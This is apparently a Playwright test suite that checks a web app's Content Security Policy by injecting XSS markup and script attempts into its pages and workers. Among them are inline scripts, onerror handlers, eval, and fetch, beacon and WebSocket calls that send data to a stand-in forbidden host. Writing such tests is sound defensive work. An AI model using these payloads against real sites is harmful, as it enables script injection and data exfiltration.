// G5: the policy of the built pages and workers under attack. Everything a page may not do is tried in a page with the
// very headers of ours; every try is refused, and none reaches the server that nobody may ask.
import type { Page } from '@playwright/test'
import { expect, test } from './hostile-app'
import { payloads } from './hostile-payloads'
import { finished, openApp, openExample } from './steps'

/** Markup that comes with the page, as a hole in it would put it there, and the violation that stops it. */
const markup: [string, string, RegExp][] = [
  ['inline script', '<script>canary(1)</script>', /^script-src-elem inline/],
  ['inline module', '<script type=module>canary(2)</script>', /^script-src-elem inline/],
  ['script of a guessed nonce', '<script nonce=guess>canary(3)</script>', /^script-src-elem inline/],
  ['inline handler', '<img src="data:," onerror=canary(4)>', /^script-src-attr inline/],
  ['foreign script', '<script src=HIT.js></script>', /^script-src-elem .*attack\.js/],
  ['own script without the nonce', '<script src="/sw.js"></script>', /^script-src-elem .*sw\.js/],
  ['foreign picture', '<img src=HIT.png>', /^img-src .*attack\.png/],
  ['foreign style sheet', '<link rel=stylesheet href=HIT.css>', /^style-src-elem .*attack\.css/],
  ['inline style element', '<style>@import "HIT-import.css"</style>', /^style-src-elem inline/],
  ['foreign background', '<p style="background:url(HIT-back.png)">a</p>', /^img-src .*attack-back\.png/],
  ['foreign film', '<video src=HIT.mp4 autoplay></video>', /^media-src .*attack\.mp4/],
  ['foreign sound', '<audio src=HIT.mp3 autoplay></audio>', /^media-src .*attack\.mp3/],
  ['foreign frame', '<iframe src=HIT.html></iframe>', /^frame-src .*127/],
  [
    'frame of data',
    '<iframe src="data:text/html,<script>parent.canary(5)</script>"></iframe>',
    /^frame-src (data.*)?$/,
  ],
  ['object', '<object type="text/html" data=HIT-object></object>', /^(object|frame)-src .*/],
  ['embed', '<embed type="text/html" src=HIT-embed>', /^(object|frame)-src .*/],
  ['base', '<base href="http://HOST/attack-base/">', /^base-uri .*127/],
]

/** What a script that somehow runs tries, and the violation that stops it. */
const scripted: [string, string, RegExp][] = [
  ['eval', 'eval("canary(11)")', /^script-src eval/],
  ['new Function', 'new Function("canary(12)")()', /^script-src eval/],
  ['a timer of text', 'setTimeout("canary(13)")', /^script-src eval/],
  ['a javascript: address', 'location.href = "javascript:canary(14)"', /^script-src-elem inline/],
  ['fetch', 'fetch("HIT-fetch").catch(() => {})', /^connect-src .*fetch/],
  [
    'XMLHttpRequest',
    'const x = new XMLHttpRequest(); x.open("GET", "HIT-xhr"); x.send()',
    /^connect-src .*xhr/,
  ],
  ['beacon', 'navigator.sendBeacon("HIT-beacon", "secret")', /^connect-src .*beacon/],
  ['web socket', 'new WebSocket("ws://HOST/socket")', /^connect-src ws:/],
  ['event source', 'new EventSource("HIT-events")', /^connect-src .*events/],
  ['worker of a blob', 'new Worker(URL.createObjectURL(new Blob(["1"])))', /^worker-src blob/],
  ['worker of data', 'new Worker("data:text/javascript,1")', /^worker-src data/],
  ['import', 'import("HIT-import.js").catch(() => {})', /^script-src-elem .*import\.js/],
  ['import of data', 'import("data:text/javascript,canary(15)").catch(() => {})', /^script-src-elem data/],
  [
    'a script element made by a script',
    'document.head.append(Object.assign(document.createElement("script"), { src: "HIT-made.js" }))',
    /^script-src-elem .*made\.js/,
  ],
  ['font', 'new FontFace("x", "url(HIT.woff2)").load().catch(() => {})', /^font-src .*woff2/],
  [
    'a form',
    'const form = Object.assign(document.createElement("form"), { action: "HIT-form", method: "post" }); document.body.append(form); form.submit()',
    /^form-action .*form/,
  ],
]

interface Violation {
  directive: string
  uri: string
}

/** The violations of a page with `attack` in it, under the headers of the true one, once none is missing. */
async function violationsOf(page: Page, attack: (nonce: string) => string, wanted: readonly RegExp[]) {
  await page.route('/', async (route) => {
    const response = await page.request.get('/')
    const nonce = /'nonce-([^']+)'/.exec(response.headers()['content-security-policy'] ?? '')?.[1] ?? ''
    expect(nonce).not.toBe('')
    const body = (await response.text()).replace('</body>', () => `${attack(nonce)}</body>`)
    await route.fulfill({ response, body })
  })
  await page.goto('/', { waitUntil: 'commit' })
  const seen = async () =>
    (await page.evaluate(() => (window as unknown as { violations: Violation[] }).violations)).map(
      ({ directive, uri }) => `${directive} ${uri}`,
    )
  const missing = async () => {
    const all = await seen()
    const open = wanted.filter((one) => !all.some((text) => one.test(text))).map(String)
    return open.length > 0 ? { open, all } : {}
  }
  await expect.poll(missing, { timeout: 15_000 }).toEqual({})
  return await seen()
}

// What a service worker fetches passes no route of ours.
test.use({ serviceWorkers: 'block' })

test.beforeEach(async ({ context }) => {
  await context.addInitScript(() => {
    const violations: Violation[] = []
    Object.assign(window, { violations })
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      violations.push({ directive: effectiveDirective, uri: blockedURI }),
    )
  })
})

test(`${markup.length} attacks by markup and ${scripted.length} by script are refused, and nothing leaves`, async ({
  page,
  stage,
  guarded,
  watched,
}) => {
  watched.allowed.push(/./)
  const filled = (text: string) =>
    text.replaceAll('HIT', `http://${stage.forbidden.host}/attack`).replaceAll('HOST', stage.forbidden.host)
  const wanted = (table: typeof markup) => table.map(([, , violation]) => violation)
  const byMarkup = await violationsOf(
    page,
    () => filled(markup.map(([, text]) => text).join('\n')),
    wanted(markup),
  )
  expect(byMarkup.filter((text) => /^script-src-elem inline/.test(text)).length).toBeGreaterThanOrEqual(3)
  await page.unrouteAll()
  const attack = (nonce: string) =>
    scripted
      .map(([, code]) => `<script nonce="${nonce}">try { ${filled(code)} } catch {}</script>`)
      .join('\n')
  const byScript = await violationsOf(page, attack, wanted(scripted))
  expect(byScript.filter((text) => /^script-src eval/.test(text)).length).toBeGreaterThanOrEqual(3)
  // The browser opens connections ahead while it reads markup; a policy has no say in that. Nothing is sent on them.
  expect(stage.forbidden.hits.filter((hit) => hit !== 'connection')).toEqual([])
  expect(guarded.faults.filter((fault) => !fault.startsWith('request'))).toEqual([])
  // What was refused is on the console and in the list of requests, as it should be: counted above instead.
  watched.faults.length = 0
})

test('a hole in a view would not be enough: the whole corpus as HTML in our page runs nothing', async ({
  page,
  stage,
  guarded,
  watched,
}) => {
  watched.allowed.push(/./)
  // The policy has no say in where a page goes (meta refresh) and in connections opened ahead (preconnect).
  const all = payloads(stage.forbidden.host).filter(({ text }) => !/http-equiv=refresh|preconnect/.test(text))
  await page.goto('/login')
  await page.evaluate(
    (texts) => {
      for (const text of texts) {
        const div = document.createElement('div')
        document.body.append(div)
        div.innerHTML = text
      }
    },
    all.map(({ text }) => text),
  )
  await page.waitForTimeout(1500)
  expect(guarded.faults.filter((fault) => /ran|dialog|opened/.test(fault))).toEqual([])
  expect(stage.forbidden.hits.filter((hit) => hit !== 'connection')).toEqual([])
  // The same watch sees what is there: it would have seen it in a view.
  const seen = await page.evaluate(
    () => (window as unknown as { alienElements: string[] }).alienElements.length,
  )
  expect(seen).toBeGreaterThan(250)
  watched.faults.length = 0
})

test('the corpus is live: in a page without a policy scripts run and requests leave @soak', async ({
  page,
  stage,
  guarded,
  watched,
}) => {
  watched.allowed.push(/./)
  const all = payloads(stage.forbidden.host).filter(({ text }) => !/http-equiv=refresh/.test(text))
  const frames = all.map(
    ({ text }) => `<iframe srcdoc="${text.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>`,
  )
  stage.forbidden.page = `<!doctype html><body>${frames.join('\n')}`
  await page.goto(`http://${stage.forbidden.host}/page`)
  await page.waitForTimeout(3000)
  const ran = new Set(guarded.faults.filter((fault) => /script \d+ ran/.test(fault)))
  const left = new Set(stage.forbidden.hits.map((path) => /^\/(\d+)/.exec(path)?.[1]).filter(Boolean))
  const figures = `${ran.size} of 300 scripts run by themselves, ${left.size} forms ask for their address`
  test.info().annotations.push({ type: 'live in a page without a policy', description: figures })
  process.stdout.write(`${figures}\n`)
  expect(ran.size).toBeGreaterThan(120)
  expect(left.size).toBeGreaterThan(25)
  watched.faults.length = 0
})

test('every page, the missing one too, opens and lives without a violation', async ({ page, watched }) => {
  watched.allowed.push(/Failed to load resource.*404/)
  for (const address of ['/', '/evaluate', '/models', '/login', '/no/such/page']) {
    await page.goto(address)
    await page.waitForLoadState('networkidle')
    await page.keyboard.press('?')
    expect(await page.evaluate(() => (window as unknown as { violations: Violation[] }).violations)).toEqual(
      [],
    )
  }
})

/** Runs in a worker: five ways out. A way that gives no sign within a second has not led out. */
async function attackFromWorker(host: string) {
  const ways: Record<string, () => unknown> = {
    // biome-ignore lint/security/noGlobalEval: that it is refused is what is tested.
    eval: () => globalThis.eval('1'),
    function: () => new Function('return 1')(),
    fetch: () => fetch(`http://${host}/worker-fetch`),
    import: () => import(/* turbopackIgnore: true */ `http://${host}/worker-import.js`),
    socket: () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(`ws://${host}/worker-socket`)
        socket.onopen = resolve
        socket.onerror = reject
      }),
  }
  const open: string[] = []
  let refused = 0
  for (const [name, way] of Object.entries(ways))
    try {
      await new Promise((resolve, reject) => {
        // In a task of its own: what the debugger itself calls may use eval.
        setTimeout(() => void Promise.resolve().then(way).then(resolve, reject), 0)
        setTimeout(reject, 1000)
      })
      open.push(name)
    } catch {
      refused += 1
    }
  return { open, refused }
}

test('workers: no eval, no foreign code, no foreign request @soak', async ({
  page,
  stage,
  guarded,
  watched,
}) => {
  watched.allowed.push(/./)
  await openApp(page)
  await openExample(page, 'receipt')
  for (const column of [0, 1]) await finished(page, column)
  const workers = page.workers()
  let asked = 0
  for (const worker of workers) {
    const tried = await Promise.race([
      worker.evaluate(attackFromWorker, stage.forbidden.host),
      // A worker in the middle of its work hears nothing.
      new Promise<undefined>((resolve) => setTimeout(resolve, 8000)),
    ])
    if (tried === undefined) continue
    expect([worker.url(), tried.open]).toEqual([worker.url(), []])
    expect(tried.refused).toBe(5)
    asked += 1
  }
  expect(asked).toBeGreaterThanOrEqual(2)
  // A request that the policy refuses is listed by the browser and goes nowhere: `hits` would know.
  expect(guarded.faults.filter((fault) => !fault.startsWith('request'))).toEqual([])
  expect(stage.forbidden.hits).toEqual([])
  watched.faults.length = 0
})
